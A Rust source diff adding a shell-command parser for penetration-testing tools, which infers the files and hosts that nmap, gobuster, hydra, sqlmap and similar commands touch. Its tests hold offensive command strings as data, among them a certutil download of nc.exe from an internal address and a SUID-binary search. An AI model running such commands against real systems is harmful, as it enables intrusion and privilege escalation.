@@ -0,0 +1,575 @@
+use lazy_static::lazy_static;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// A shell command split into its program and arguments
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ParsedCommand {
+    /// Program name without its directory (e.g. "nmap" for "/usr/bin/nmap")
+    pub program: String,
+    /// Arguments following the program
+    pub args: Vec<String>,
+}
+
+// Prefixes that run another program rather than being the interesting tool themselves
+const WRAPPER_PROGRAMS: &[&str] = &["sudo", "doas", "env", "nohup", "time", "proxychains", "proxychains4"];
+
+// Wrapper flags followed by a value, e.g. the user in `sudo -u root nmap`
+const WRAPPER_VALUE_FLAGS: &[(&str, &[&str])] = &[
+    ("sudo", &["-u", "-g", "-C", "-D", "-p", "-r", "-t", "-T", "-U",
+               "--user", "--group", "--close-from", "--chdir", "--host", "--prompt", "--role", "--type",
+               "--command-timeout", "--other-user"]),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"]),
+    ("time", &["-f", "-o", "--format", "--output"]),
+    ("proxychains", &["-f"]),
+    ("proxychains4", &["-f"]),
+];
+
+lazy_static! {
+    // IPv4 address with an optional CIDR suffix or port
+    static ref IPV4: Regex = Regex::new(r"^\d{1,3}(\.\d{1,3}){3}(/\d{1,2}|:\d+)?$").unwrap();
+    // scheme://[user@]host[:port][/path]
+    static ref URL: Regex = Regex::new(r"^[a-zA-Z][a-zA-Z0-9+.-]*://(?:[^@/]+@)?([^/?#]+)").unwrap();
+    // PowerShell cmdlets are named Verb-Noun with one of a fixed set of verbs
+    static ref CMDLET: Regex = Regex::new(r"(?i)^(get|set|new|remove|add|invoke|start|stop|select|test|out|write|import|export|convertto|convertfrom)-[a-z]+$").unwrap();
+}
+
+/// Operating system family a command is written for
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Platform {
+    Unix,
+    Windows,
+}
+
+impl Platform {
+    /// The platform this binary was built for
+    pub fn current() -> Self {
+        if cfg!(windows) {
+            Self::Windows
+        } else {
+            Self::Unix
+        }
+    }
+
+    /// Parse a platform name such as "windows", "linux" or "macos"
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.trim().to_lowercase().as_str() {
+            "unix" | "linux" | "macos" | "bsd" => Some(Self::Unix),
+            "windows" | "win" => Some(Self::Windows),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for Platform {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Unix => write!(f, "Unix"),
+            Self::Windows => write!(f, "Windows"),
+        }
+    }
+}
+
+/// Machine-readable output format to ask security tools for, so their output can be parsed
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ToolOutputFormat {
+    Xml,
+    Json,
+}
+
+impl ToolOutputFormat {
+    /// Parse a format name ("xml" or "json")
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.trim().to_lowercase().as_str() {
+            "xml" => Some(Self::Xml),
+            "json" => Some(Self::Json),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for ToolOutputFormat {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Xml => write!(f, "XML"),
+            Self::Json => write!(f, "JSON"),
+        }
+    }
+}
+
+// Flags that show masscan's output format was already chosen
+const MASSCAN_OUTPUT_FLAGS: &[&str] = &["-oX", "-oJ", "-oL", "-oG", "-oB", "-oD"];
+
+// Programs that only exist on one platform; cross-platform tools (nmap, curl, ssh...) are left out
+const PLATFORM_TOOLS: &[(&str, Platform)] = &[
+    ("ls", Platform::Unix),
+    ("grep", Platform::Unix),
+    ("awk", Platform::Unix),
+    ("sed", Platform::Unix),
+    ("chmod", Platform::Unix),
+    ("chown", Platform::Unix),
+    ("find", Platform::Unix),
+    ("xargs", Platform::Unix),
+    ("ifconfig", Platform::Unix),
+    ("ip", Platform::Unix),
+    ("ss", Platform::Unix),
+    ("id", Platform::Unix),
+    ("uname", Platform::Unix),
+    ("apt", Platform::Unix),
+    ("apt-get", Platform::Unix),
+    ("systemctl", Platform::Unix),
+    ("powershell", Platform::Windows),
+    ("pwsh", Platform::Windows),
+    ("cmd", Platform::Windows),
+    ("ipconfig", Platform::Windows),
+    ("tasklist", Platform::Windows),
+    ("findstr", Platform::Windows),
+    ("certutil", Platform::Windows),
+    ("icacls", Platform::Windows),
+    ("reg", Platform::Windows),
+    ("net", Platform::Windows),
+    ("sc", Platform::Windows),
+    ("wmic", Platform::Windows),
+];
+
+/// Files and hosts a command is expected to touch, worked out without running it
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct CommandImpact {
+    /// Files the command reads (wordlists, input lists, redirected stdin)
+    pub reads: Vec<String>,
+    /// Files the command creates or overwrites
+    pub writes: Vec<String>,
+    /// Hosts, networks or URLs' hosts the command contacts
+    pub hosts: Vec<String>,
+}
+
+impl CommandImpact {
+    /// Returns true if nothing was recognised
+    pub fn is_empty(&self) -> bool {
+        self.reads.is_empty() && self.writes.is_empty() && self.hosts.is_empty()
+    }
+}
+
+impl fmt::Display for CommandImpact {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let mut parts = Vec::new();
+        if !self.reads.is_empty() {
+            parts.push(format!("reads {}", self.reads.join(", ")));
+        }
+        if !self.writes.is_empty() {
+            parts.push(format!("writes {}", self.writes.join(", ")));
+        }
+        if !self.hosts.is_empty() {
+            parts.push(format!("contacts {}", self.hosts.join(", ")));
+        }
+        write!(f, "{}", parts.join("; "))
+    }
+}
+
+/// What the arguments of a well-known tool mean
+struct ToolFlags {
+    program: &'static str,
+    /// Flags whose value is a file that is read
+    reads: &'static [&'static str],
+    /// Flags whose value is a file that is written
+    writes: &'static [&'static str],
+    /// Flags whose value is a host or URL
+    hosts: &'static [&'static str],
+    /// Other flags that take a value, so the value isn't mistaken for a positional argument
+    values: &'static [&'static str],
+    /// Positional arguments are targets (hosts) rather than anything else
+    positional_hosts: bool,
+}
+
+const KNOWN_TOOLS: &[ToolFlags] = &[
+    ToolFlags {
+        program: "nmap",
+        reads: &["-iL", "--excludefile"],
+        writes: &["-oN", "-oX", "-oG", "-oA", "-oS"],
+        hosts: &[],
+        values: &["-p", "-e", "-S", "--script", "--script-args", "--top-ports", "--exclude", "-D", "--source-port", "-g"],
+        positional_hosts: true,
+    },
+    ToolFlags {
+        program: "gobuster",
+        reads: &["-w", "--wordlist"],
+        writes: &["-o", "--output"],
+        hosts: &["-u", "--url", "-d", "--domain"],
+        values: &["-t", "--threads", "-x", "--extensions", "-s", "-b", "-c", "--cookies", "-H", "--timeout"],
+        positional_hosts: false,
+    },
+    ToolFlags {
+        program: "hydra",
+        reads: &["-L", "-P", "-C", "-M"],
+        writes: &["-o"],
+        hosts: &[],
+        values: &["-l", "-p", "-s", "-t", "-w", "-e", "-m"],
+        positional_hosts: true,
+    },
+    ToolFlags {
+        program: "sqlmap",
+        reads: &["-r", "-m"],
+        writes: &["--output-dir"],
+        hosts: &["-u", "--url"],
+        values: &["--data", "--cookie", "-p", "--level", "--risk", "--dbms", "-D", "-T", "-C", "--technique"],
+        positional_hosts: false,
+    },
+    ToolFlags {
+        program: "nikto",
+        reads: &[],
+        writes: &["-o", "-output"],
+        hosts: &["-h", "-host"],
+        values: &["-p", "-port", "-Format", "-Tuning"],
+        positional_hosts: false,
+    },
+    ToolFlags {
+        program: "curl",
+        reads: &["-T", "--upload-file", "-K", "--config"],
+        writes: &["-o", "--output", "-c", "--cookie-jar"],
+        hosts: &["-x", "--proxy"],
+        values: &["-d", "--data", "-H", "--header", "-X", "--request", "-u", "--user", "-A", "--user-agent", "-b", "--cookie", "-e", "--referer"],
+        positional_hosts: true,
+    },
+    ToolFlags {
+        program: "wget",
+        reads: &["-i", "--input-file"],
+        writes: &["-O", "--output-document", "-o", "--output-file"],
+        hosts: &[],
+        values: &["-U", "--user-agent", "--header", "-P", "--directory-prefix"],
+        positional_hosts: true,
+    },
+];
+
+/// Statically work out which files and hosts a parsed command touches
+///
+/// Known tools (nmap, gobuster, hydra, sqlmap, nikto, curl, wget) are understood through
+/// their flags. For any command, output redirections are treated as writes, input
+/// redirections as reads, and IP addresses, networks and URLs as hosts.
+pub fn command_impact(parsed: &ParsedCommand) -> CommandImpact {
+    let mut impact = CommandImpact::default();
+    let tool = KNOWN_TOOLS.iter().find(|tool| tool.program == parsed.program);
+    let mut args = parsed.args.iter();
+    
+    while let Some(arg) = args.next() {
+        // Redirections, either as their own word or attached to the file name
+        if let Some(rest) = redirection(arg, &["&>>", ">>", "&>", "2>", "1>", ">"]) {
+            let target = if rest.is_empty() { args.next().map(String::as_str) } else { Some(rest) };
+            if let Some(target) = target.filter(|t| !t.is_empty() && !t.starts_with('&')) {
+                push_unique(&mut impact.writes, target);
+            }
+            continue;
+        }
+        if let Some(rest) = redirection(arg, &["<"]) {
+            let source = if rest.is_empty() { args.next().map(String::as_str) } else { Some(rest) };
+            if let Some(source) = source {
+                push_unique(&mut impact.reads, source);
+            }
+            continue;
+        }
+        
+        if let Some(tool) = tool {
+            // Accept both "--flag value" and "--flag=value"
+            let (flag, inline_value) = match arg.split_once('=') {
+                Some((flag, value)) if flag.starts_with('-') => (flag, Some(value.to_string())),
+                _ => (arg.as_str(), None),
+            };
+            let category = if tool.reads.contains(&flag) {
+                Some(&mut impact.reads)
+            } else if tool.writes.contains(&flag) {
+                Some(&mut impact.writes)
+            } else if tool.hosts.contains(&flag) {
+                Some(&mut impact.hosts)
+            } else {
+                None
+            };
+            let takes_value = tool.values.contains(&flag);
+            if category.is_some() || takes_value {
+                let value = inline_value.or_else(|| args.next().cloned());
+                if let (Some(list), Some(value)) = (category, value) {
+                    let value = if tool.hosts.contains(&flag) { host_of(&value).unwrap_or(value) } else { value };
+                    push_unique(list, &value);
+                }
+                continue;
+            }
+            if tool.positional_hosts && !arg.starts_with('-') {
+                if let Some(host) = host_of(arg).or_else(|| (tool.program == "nmap").then(|| arg.clone())) {
+                    push_unique(&mut impact.hosts, &host);
+                }
+                continue;
+            }
+        }
+        
+        if let Some(host) = host_of(arg) {
+            push_unique(&mut impact.hosts, &host);
+        }
+    }
+    
+    impact
+}
+
+/// If `arg` starts with one of the redirection operators, return what follows it
+fn redirection<'a>(arg: &'a str, operators: &[&str]) -> Option<&'a str> {
+    operators.iter().find_map(|op| arg.strip_prefix(op))
+}
+
+/// The host an argument refers to, if it looks like an IP address, network, URL or user@host
+fn host_of(arg: &str) -> Option<String> {
+    if IPV4.is_match(arg) {
+        return Some(arg.to_string());
+    }
+    if let Some(captures) = URL.captures(arg) {
+        return Some(captures[1].to_string());
+    }
+    match arg.split_once('@') {
+        Some((user, host)) if !user.is_empty() && !host.is_empty() && !arg.contains('/') => {
+            Some(host.split(':').next().unwrap_or(host).to_string())
+        }
+        _ => None,
+    }
+}
+
+/// Add a value to a list unless it is already there
+fn push_unique(list: &mut Vec<String>, value: &str) {
+    if !list.iter().any(|existing| existing == value) {
+        list.push(value.to_string());
+    }
+}
+
+/// The platform a command only runs on, if its program gives that away
+///
+/// Returns `None` for cross-platform tools and anything unrecognised.
+pub fn command_platform(parsed: &ParsedCommand) -> Option<Platform> {
+    let program = parsed.program.to_lowercase();
+    let program = program.strip_suffix(".exe").unwrap_or(&program);
+    if CMDLET.is_match(program) {
+        return Some(Platform::Windows);
+    }
+    PLATFORM_TOOLS
+        .iter()
+        .find(|(tool, _)| *tool == program)
+        .map(|(_, platform)| *platform)
+}
+
+/// Flags that make `program` write `format` to stdout, and the flag prefixes that show
+/// an output format was already chosen; None for tools without such an option
+fn output_format_flags(program: &str, format: ToolOutputFormat) -> Option<(&'static str, &'static [&'static str])> {
+    match (program, format) {
+        // nmap has no JSON output, so XML is used for both
+        ("nmap", _) => Some(("-oX -", &["-oN", "-oX", "-oG", "-oA", "-oS"])),
+        ("masscan", ToolOutputFormat::Xml) => Some(("-oX -", MASSCAN_OUTPUT_FLAGS)),
+        ("masscan", ToolOutputFormat::Json) => Some(("-oJ -", MASSCAN_OUTPUT_FLAGS)),
+        ("nuclei", ToolOutputFormat::Json) => Some(("-jsonl", &["-j", "-json", "-jsonl"])),
+        _ => None,
+    }
+}
+
+/// Make a command for a recognised tool write `format` to stdout
+///
+/// The flags are added right after the program name, so pipes and redirections keep
+/// working. Commands that already choose an output format, and tools without a
+/// structured output option, are returned unchanged.
+pub fn request_output_format(command: &str, format: ToolOutputFormat) -> String {
+    let parsed = parse_command(command);
+    let Some((flags, existing)) = output_format_flags(&parsed.program, format) else {
+        return command.to_string();
+    };
+    if parsed.args.iter().any(|arg| existing.iter().any(|flag| arg.starts_with(flag))) {
+        return command.to_string();
+    }
+    
+    let program = Regex::new(&format!(r"(?:^|[\s/]){}(?:\s|$)", regex::escape(&parsed.program))).unwrap();
+    match program.find(command) {
+        Some(m) => {
+            let end = m.start() + m.as_str().trim_end().len();
+            format!("{} {}{}", &command[..end], flags, &command[end..])
+        }
+        None => command.to_string(),
+    }
+}
+
+/// Parse the first command of a (possibly piped) shell command line
+///
+/// Wrappers such as `sudo` and leading `VAR=value` assignments are skipped so that
+/// `sudo nmap -sV host` yields the program `nmap`.
+pub fn parse_command(command: &str) -> ParsedCommand {
+    let first_segment = command
+        .split(['|', ';', '&'])
+        .next()
+        .unwrap_or("");
+    let mut words = split_words(first_segment).into_iter().peekable();
+    
+    // Skip wrappers along with their flags and flag values, and environment assignments
+    let mut wrapper = None;
+    while let Some(word) = words.peek().cloned() {
+        let name = program_name(&word);
+        if WRAPPER_PROGRAMS.contains(&name) {
+            wrapper = Some(name.to_string());
+        } else if word.starts_with('-') {
+            if wrapper.as_deref().is_some_and(|wrapper| wrapper_flag_takes_value(wrapper, &word)) {
+                words.next();
+            }
+        } else if !is_assignment(&word) {
+            break;
+        }
+        words.next();
+    }
+    
+    let program = words.next().map(|w| program_name(&w).to_string()).unwrap_or_default();
+    ParsedCommand {
+        program,
+        args: words.collect(),
+    }
+}
+
+/// Whether `flag` given to `wrapper` is followed by a separate value word
+///
+/// Short flags may be grouped (`sudo -Eu root`); a value flag takes the rest of its
+/// group as the value, so it only needs the next word when it comes last.
+fn wrapper_flag_takes_value(wrapper: &str, flag: &str) -> bool {
+    let Some((_, value_flags)) = WRAPPER_VALUE_FLAGS.iter().find(|(name, _)| *name == wrapper) else {
+        return false;
+    };
+    if flag.starts_with("--") {
+        return value_flags.contains(&flag);
+    }
+    
+    let group = &flag[1..];
+    group
+        .char_indices()
+        .find(|(_, c)| value_flags.iter().any(|f| f.len() == 2 && f.ends_with(*c)))
+        .is_some_and(|(i, c)| i + c.len_utf8() == group.len())
+}
+
+/// Split a command line into words, honouring single/double quotes and backslash escapes
+pub fn split_words(command: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars();
+    
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some('"'), '\\') | (None, '\\') => {
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                in_word = true;
+            }
+            (Some(_), c) => current.push(c),
+            (None, '\'') | (None, '"') => {
+                quote = Some(c);
+                in_word = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                if in_word {
+                    words.push(std::mem::take(&mut current));
+                    in_word = false;
+                }
+            }
+            (None, c) => {
+                current.push(c);
+                in_word = true;
+            }
+        }
+    }
+    
+    if in_word {
+        words.push(current);
+    }
+    words
+}
+
+/// Strip any directory from a program path
+fn program_name(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// Returns true for `VAR=value` environment assignments
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
+        None => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    
+    #[test]
+    fn test_parse_command() {
+        let parsed = parse_command("sudo /usr/bin/nmap -sV 10.0.0.1 | tee scan.txt");
+        assert_eq!(parsed.program, "nmap");
+        assert_eq!(parsed.args, vec!["-sV", "10.0.0.1"]);
+        
+        let parsed = parse_command("HYDRA_PROXY=socks5://127.0.0.1:9050 hydra -l admin -P 'my list.txt' ssh://host");
+        assert_eq!(parsed.program, "hydra");
+        assert_eq!(parsed.args[3], "my list.txt");
+        
+        // Values of wrapper flags are not mistaken for the program
+        for command in ["sudo -u root nmap -sV 10.0.0.1", "sudo -Eu root nmap -sV 10.0.0.1", "sudo --user root nmap -sV 10.0.0.1",
+                        "sudo -uroot nmap -sV 10.0.0.1", "sudo --user=root nmap -sV 10.0.0.1", "proxychains -f p.conf nmap -sV 10.0.0.1"] {
+            let parsed = parse_command(command);
+            assert_eq!(parsed.program, "nmap", "{}", command);
+            assert_eq!(parsed.args, vec!["-sV", "10.0.0.1"], "{}", command);
+        }
+        assert_eq!(parse_command("env -u DEBUG sudo -g adm cat /var/log/auth.log").program, "cat");
+    }
+    
+    #[test]
+    fn test_request_output_format() {
+        assert_eq!(request_output_format("nmap -sV 10.0.0.1", ToolOutputFormat::Xml), "nmap -oX - -sV 10.0.0.1");
+        assert_eq!(request_output_format("sudo nmap -sS 10.0.0.1 | tee scan.xml", ToolOutputFormat::Json), "sudo nmap -oX - -sS 10.0.0.1 | tee scan.xml");
+        assert_eq!(request_output_format("masscan -p1-65535 10.0.0.1", ToolOutputFormat::Json), "masscan -oJ - -p1-65535 10.0.0.1");
+        assert_eq!(request_output_format("nuclei -u http://box.htb", ToolOutputFormat::Json), "nuclei -jsonl -u http://box.htb");
+        
+        // Already chosen formats and tools without one are left alone
+        assert_eq!(request_output_format("nmap -oN scan.txt 10.0.0.1", ToolOutputFormat::Xml), "nmap -oN scan.txt 10.0.0.1");
+        assert_eq!(request_output_format("nuclei -u http://box.htb", ToolOutputFormat::Xml), "nuclei -u http://box.htb");
+        assert_eq!(request_output_format("ls -la", ToolOutputFormat::Xml), "ls -la");
+    }
+    
+    #[test]
+    fn test_nmap_impact() {
+        let impact = command_impact(&parse_command("sudo nmap -sV -p 22,80 -oN scan.txt --script=vuln 10.0.0.0/24 box.htb"));
+        assert_eq!(impact.hosts, vec!["10.0.0.0/24", "box.htb"]);
+        assert_eq!(impact.writes, vec!["scan.txt"]);
+        assert!(impact.reads.is_empty());
+        
+        let impact = command_impact(&parse_command("nmap -iL targets.txt -oA full"));
+        assert_eq!(impact.reads, vec!["targets.txt"]);
+        assert_eq!(impact.writes, vec!["full"]);
+    }
+    
+    #[test]
+    fn test_impact_from_redirection_and_urls() {
+        let impact = command_impact(&parse_command("python3 exploit.py http://10.10.11.42:8080/login > out.txt 2>errors.log < payload.bin"));
+        assert_eq!(impact.writes, vec!["out.txt", "errors.log"]);
+        assert_eq!(impact.reads, vec!["payload.bin"]);
+        assert_eq!(impact.hosts, vec!["10.10.11.42:8080"]);
+        
+        let impact = command_impact(&parse_command("gobuster dir -u http://target.htb -w /usr/share/wordlists/common.txt -t 50"));
+        assert_eq!(impact.hosts, vec!["target.htb"]);
+        assert_eq!(impact.reads, vec!["/usr/share/wordlists/common.txt"]);
+        assert_eq!(impact.to_string(), "reads /usr/share/wordlists/common.txt; contacts target.htb");
+        
+        assert!(command_impact(&parse_command("ls -la")).is_empty());
+    }
+
+    #[test]
+    fn test_command_platform() {
+        assert_eq!(command_platform(&parse_command("Get-ChildItem -Recurse C:\\Users")), Some(Platform::Windows));
+        assert_eq!(command_platform(&parse_command("certutil.exe -urlcache -f http://10.0.0.1/nc.exe nc.exe")), Some(Platform::Windows));
+        assert_eq!(command_platform(&parse_command("ls -la /tmp")), Some(Platform::Unix));
+        assert_eq!(command_platform(&parse_command("sudo find / -perm -4000 2>/dev/null")), Some(Platform::Unix));
+        assert_eq!(command_platform(&parse_command("nmap -sV 10.0.0.1")), None);
+        assert_eq!(command_platform(&parse_command("ssh-keygen -t ed25519")), None);
+        assert_eq!(Platform::parse("Linux"), Some(Platform::Unix));
+    }
+}